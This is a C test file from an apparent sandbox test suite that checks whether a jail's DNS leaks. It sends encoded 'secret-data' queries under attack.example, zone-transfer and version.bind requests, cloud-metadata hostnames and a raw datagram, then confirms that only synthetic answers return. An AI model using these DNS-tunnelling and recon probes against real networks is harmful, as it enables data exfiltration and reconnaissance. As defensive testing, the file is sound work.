/* See jail_dns.h. Messages after RFC 1035 section 4. */
#include "tests/attack/jail_dns.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "shared/addresses.h"
#include "tests/attack/jail_reach.h"
#include "tests/attack/tap.h"

#define MESSAGE_MAX 4096
#define HEADER_LENGTH 12
#define RECORD_FIXED 10 /* type, class, TTL, length of a resource record */
#define SERVERS_MAX 8
#define TYPE_A 1
#define TYPE_OPT 41
#define TYPE_AXFR 252
#define CLASS_IN 1
#define CLASS_CHAOS 3
#define SCENARIO_ANSWERS_MAX 64
#define OWN_TIMEOUT_MS 10000 /* for the one server that answers, on a machine that is busy */

struct question {
	const char *name; /* labels with dots between; no escapes */
	uint16_t type;
	uint16_t class;
};

#define LABEL_63 "abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz0"
#define NAME_253 LABEL_63 "." LABEL_63 "." LABEL_63 ".abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxy"

/* The first is the control: a jail whose DNS is dead would pass all the rest. */
static const struct question questions[] = {
	{ "attack-control.example", TYPE_A, CLASS_IN },
	{ "c2VjcmV0LWRhdGE.attack.example", TYPE_A, CLASS_IN },
	{ "c2VjcmV0LWRhdGE.attack.example", 28 /* AAAA */, CLASS_IN },
	{ "c2VjcmV0LWRhdGE.attack.example", 16 /* TXT */, CLASS_IN },
	{ "c2VjcmV0LWRhdGE.attack.example", 10 /* NULL */, CLASS_IN },
	{ "c2VjcmV0LWRhdGE.attack.example", 5 /* CNAME */, CLASS_IN },
	{ "c2VjcmV0LWRhdGE.attack.example", 65 /* HTTPS */, CLASS_IN },
	{ "c2VjcmV0LWRhdGE.attack.example", 255 /* ANY */, CLASS_IN },
	{ "attack.example", 15 /* MX */, CLASS_IN },
	{ "attack.example", 2 /* NS */, CLASS_IN },
	{ "attack.example", 6 /* SOA */, CLASS_IN },
	{ "attack.example", 48 /* DNSKEY */, CLASS_IN },
	{ "attack.example", 65280 /* private use */, CLASS_IN },
	{ "_ldap._tcp.attack.example", 33 /* SRV */, CLASS_IN },
	{ "attack.example", TYPE_AXFR, CLASS_IN },
	{ "1.100.51.198.in-addr.arpa", 12 /* PTR */, CLASS_IN },
	{ "version.bind", 16 /* TXT */, CLASS_CHAOS },
	{ "hostname.bind", 16 /* TXT */, CLASS_CHAOS },
	{ LABEL_63 ".example", TYPE_A, CLASS_IN },
	{ NAME_253, TYPE_A, CLASS_IN },
	{ NAME_253, 16 /* TXT */, CLASS_IN },
	{ "with space.exam\xff\x01ple", TYPE_A, CLASS_IN },
	{ "metadata.google.internal", TYPE_A, CLASS_IN },
	{ "host.docker.internal", TYPE_A, CLASS_IN },
	{ "example", TYPE_A, CLASS_IN },
	{ "", 2 /* NS of the root */, CLASS_IN },
};
#define N_QUESTIONS (sizeof(questions) / sizeof(questions[0]))

static size_t put_16(unsigned char *at, unsigned int value)
{
	at[0] = (unsigned char)(value >> 8);
	at[1] = (unsigned char)value;
	return 2;
}

static unsigned int get_16(const unsigned char *at)
{
	return (unsigned int)at[0] << 8 | at[1];
}

static size_t put_name(unsigned char *at, const char *name)
{
	size_t used = 0;

	while (*name) {
		size_t label = strcspn(name, ".");

		at[used++] = (unsigned char)label;
		memcpy(at + used, name, label);
		used += label;
		name += label + (name[label] == '.');
	}
	at[used++] = 0;
	return used;
}

/* A query with recursion desired; the number of the question is its id. Returns its length. */
static size_t put_query(unsigned char *at, size_t number)
{
	const struct question *question = &questions[number];
	size_t used = 0;

	memset(at, 0, HEADER_LENGTH);
	put_16(at, (unsigned int)number);
	at[2] = 1; /* RD */
	put_16(at + 4, 1);
	used = HEADER_LENGTH + put_name(at + HEADER_LENGTH, question->name);
	used += put_16(at + used, question->type);
	return used + put_16(at + used, question->class);
}

/* Where the name at `at` ends, or 0. */
static size_t skip_name(const unsigned char *message, size_t length, size_t at)
{
	while (at < length) {
		if (message[at] == 0)
			return at + 1;
		if (message[at] >= 0xc0)
			return at + 2;
		at += 1u + message[at];
	}
	return 0;
}

static bool is_synthetic(const unsigned char *record, size_t length)
{
	uint32_t address;

	if (get_16(record) != TYPE_A || get_16(record + 8) != sizeof(address) ||
	    length < RECORD_FIXED + sizeof(address))
		return false;
	memcpy(&address, record + RECORD_FIXED, sizeof(address));
	return (ntohl(address) & NAMES_MASK) == NAMES_NETWORK;
}

/*
 * NULL if the answer tells nothing: a refusal, an empty answer, or synthetic addresses; else what is wrong with it.
 * Counts the synthetic ones.
 */
static const char *judge(const unsigned char *message, size_t length, unsigned int *synthetic)
{
	unsigned int records;
	size_t at = HEADER_LENGTH;

	if (length < HEADER_LENGTH || !(message[2] & 0x80))
		return "not a DNS answer";
	records = get_16(message + 6) + get_16(message + 8) + get_16(message + 10);
	for (unsigned int i = 0; i < get_16(message + 4) && at; i++)
		at = skip_name(message, length, at) + 4;
	for (unsigned int i = 0; i < records; i++) {
		at = skip_name(message, length, at);
		if (at == 0 || at + RECORD_FIXED > length)
			return "a malformed answer";
		if (is_synthetic(message + at, length - at))
			*synthetic += 1;
		else if (get_16(message + at) != TYPE_OPT)
			return "a record that is no synthetic address";
		at += RECORD_FIXED + get_16(message + at + 8);
	}
	return NULL;
}

/* What one server said, by one transport. */
struct replies {
	unsigned int n;
	unsigned int synthetic;
	bool control;         /* the control question got its address */
	const char *wrong;    /* NULL if nothing was */
	const char *question; /* the one it was wrong about */
};

static void add_reply(struct replies *replies, const unsigned char *message, size_t length)
{
	unsigned int synthetic = 0;
	const char *wrong = judge(message, length, &synthetic);
	unsigned int number = length >= 2 ? get_16(message) : N_QUESTIONS;

	replies->n++;
	replies->synthetic += synthetic;
	if (number == 0 && synthetic == 1)
		replies->control = true;
	if (wrong && !replies->wrong) {
		replies->wrong = wrong;
		replies->question = number < N_QUESTIONS ? questions[number].name : "no question of ours";
	}
}

/* `awaited`: something must come, and is not met by silence as most is. */
static bool ready(int fd, short events, bool awaited)
{
	struct pollfd poll_fd = { .fd = fd, .events = events };

	return poll(&poll_fd, 1, awaited ? OWN_TIMEOUT_MS : REACH_TIMEOUT_MS) == 1;
}

static void ask_udp(const struct reach_target *server, bool own, struct replies *ret)
{
	int fd = socket(server->address.ss_family, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	unsigned char message[MESSAGE_MAX];
	const int on = 1;

	memset(ret, 0, sizeof(*ret));
	if (fd < 0)
		return;
	setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	for (size_t i = 0; i < N_QUESTIONS; i++)
		sendto(fd, message, put_query(message, i), 0, (const struct sockaddr *)&server->address,
		       server->length);
	/* not DNS at all: data in the shape of a datagram to the right port */
	sendto(fd, "secret data", 11, 0, (const struct sockaddr *)&server->address, server->length);
	for (int i = 0; i < SCENARIO_ANSWERS_MAX && ready(fd, POLLIN, own && !ret->control); i++) {
		ssize_t n = recv(fd, message, sizeof(message), 0);

		if (n >= 0)
			add_reply(ret, message, (size_t)n);
		else if (errno != ECONNREFUSED)
			break;
	}
	close(fd);
}

static bool connect_within(int fd, const struct reach_target *server, bool own)
{
	int error = 0;
	socklen_t length = sizeof(error);

	if (connect(fd, (const struct sockaddr *)&server->address, server->length) == 0)
		return true;
	return errno == EINPROGRESS && ready(fd, POLLOUT, own) &&
	       getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length) == 0 && error == 0;
}

/* All questions at once on one connection (RFC 7766 section 6.2.1.1), each with its length before it. */
static void send_stream(int fd)
{
	unsigned char message[2 + MESSAGE_MAX];

	for (size_t i = 0; i < N_QUESTIONS; i++) {
		size_t length = put_query(message + 2, i);

		put_16(message, (unsigned int)length);
		if (send(fd, message, 2 + length, MSG_NOSIGNAL) < 0)
			return;
	}
}

static void receive_stream(int fd, bool own, struct replies *replies)
{
	static unsigned char buffer[N_QUESTIONS * 1024];
	size_t used = 0, at = 0;
	ssize_t n;

	while (used < sizeof(buffer) && ready(fd, POLLIN, own && !replies->control)) {
		n = recv(fd, buffer + used, sizeof(buffer) - used, 0);
		if (n <= 0)
			break;
		used += (size_t)n;
		while (at + 2 <= used && at + 2 + get_16(buffer + at) <= used) {
			add_reply(replies, buffer + at + 2, get_16(buffer + at));
			at += 2 + get_16(buffer + at);
		}
	}
}

static void ask_tcp(const struct reach_target *server, bool own, struct replies *ret)
{
	int fd = socket(server->address.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	memset(ret, 0, sizeof(*ret));
	if (fd < 0)
		return;
	if (connect_within(fd, server, own)) {
		send_stream(fd);
		receive_stream(fd, own, ret);
	}
	close(fd);
}

static void report(const char *server, const char *transport, const struct replies *replies)
{
	char what[128];

	snprintf(what, sizeof(what), "DNS by %s to %s tells nothing", transport, server);
	tap_check(!replies->wrong, what, "%s, to %s", replies->wrong ? replies->wrong : "",
		  replies->question ? replies->question : "");
	tap_note("%u questions by %s to %s: %u answers, %u synthetic addresses", (unsigned int)N_QUESTIONS, transport,
		 server, replies->n, replies->synthetic);
}

static bool ask(const char *address, bool own)
{
	struct reach_target server;
	struct replies udp, tcp;

	if (!reach_parse(address, 53, &server))
		return false;
	ask_udp(&server, own, &udp);
	report(address, "UDP", &udp);
	ask_tcp(&server, own, &tcp);
	report(address, "TCP", &tcp);
	return udp.control && tcp.control;
}

/* The nameserver lines of resolv.conf(5) into ret[]; the strings live on. */
static size_t own_servers(char ret[SERVERS_MAX][64])
{
	FILE *file = fopen("/etc/resolv.conf", "re");
	char line[256];
	size_t n = 0;

	while (file && n < SERVERS_MAX && fgets(line, sizeof(line), file)) {
		if (sscanf(line, " nameserver %63s", ret[n]) == 1)
			n++;
	}
	if (file)
		fclose(file);
	return n;
}

void attack_dns(const char *const *servers, size_t n)
{
	char own[SERVERS_MAX][64];
	size_t n_own = own_servers(own);
	bool answered = false;

	for (size_t i = 0; i < n_own; i++)
		answered = ask(own[i], true) || answered;
	tap_check(answered, "the jail's name server answers with a synthetic address by UDP and TCP",
		  "no synthetic address: either DNS is dead, or this is no jail");
	for (size_t i = 0; i < n; i++)
		ask(servers[i], false);
}
